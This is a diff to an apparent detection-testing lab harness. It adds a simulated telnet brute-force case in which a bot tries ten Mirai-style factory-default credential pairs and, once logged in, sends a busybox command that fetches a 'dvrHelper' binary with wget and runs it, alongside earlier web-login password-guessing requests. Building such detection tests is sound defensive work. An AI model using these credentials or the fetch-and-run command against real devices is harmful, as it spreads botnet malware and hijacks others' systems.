@@ -75,3 +75,16 @@ def brute_nearmiss(lab):
     for word in ("Sprnig-2026", "Spring-2026"):
         lab.run("sk-c", f"curl -s -m 5 --interface 198.51.100.23 -o /dev/null -d user=alice -d pass={word} http://www.shop.example/login.php; sleep 1")
     lab.run("sk-c", "for i in 1 2 3; do curl -s -m 5 --interface 198.51.100.23 -o /dev/null --anyauth -u operator:Green-Kettle-7 http://www.shop.example/admin/; done")
+
+
+@case("brute_telnet", ["inetutils-telnetd", "socat", "ncat"], [f"{LATER} for 198.51.100.10 against telnet of 10.20.0.80: ten factory-set pairs, as Mirai and its kin try them; the last one succeeds, and the commands such a bot gives follow.", "Signatures for factory-set pairs and for the bot's busybox commands may fire.", "No `port_scan`."])
+def brute_telnet(lab):
+    """A bot guesses factory-set passwords over telnet; the tenth pair works, and it gives the commands such bots give. The commands do nothing here (a shell that only echoes)."""
+    lab.edge()
+    login = lab.write("login.sh", "#!/bin/sh\nprintf 'till login: '; read u; printf 'Password: '; stty -echo; read p; stty echo; echo\n"
+                      "[ \"$u$p\" = rootvizxv ] || { echo 'Login incorrect'; exit; }\nwhile printf '# ' && read line; do case \"$line\" in *ECCHI*) echo 'ECCHI: applet not found';; exit) exit;; esac; done\n", 0o755)
+    lab.spawn("sk-s", f"socat TCP4-LISTEN:23,bind=10.20.0.80,reuseaddr,fork EXEC:'{lab.write('telnetd.sh', f'#!/bin/sh{chr(10)}exec /usr/sbin/telnetd -h -E {login}{chr(10)}', 0o755)}',nofork", wait_port=23)
+    pairs = "root:xc3511 root:admin admin:admin root:888888 root:xmhdipc root:default root:juantech root:123456 support:support root:vizxv"
+    lab.capture()
+    lab.run("sk-c", "for p in " + pairs + "; do (sleep 0.3; printf '%s\\r\\n' ${p%%:*}; sleep 0.3; printf '%s\\r\\n' ${p##*:}; sleep 0.4; "
+            "[ $p = root:vizxv ] && { for c in enable system shell sh '/bin/busybox ECCHI' '/bin/busybox wget http://198.51.100.10/mips -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper telnet.mips' exit; do printf '%s\\r\\n' \"$c\"; sleep 0.3; done; }; true) | ncat -t 10.20.0.80 23; done", timeout=60)
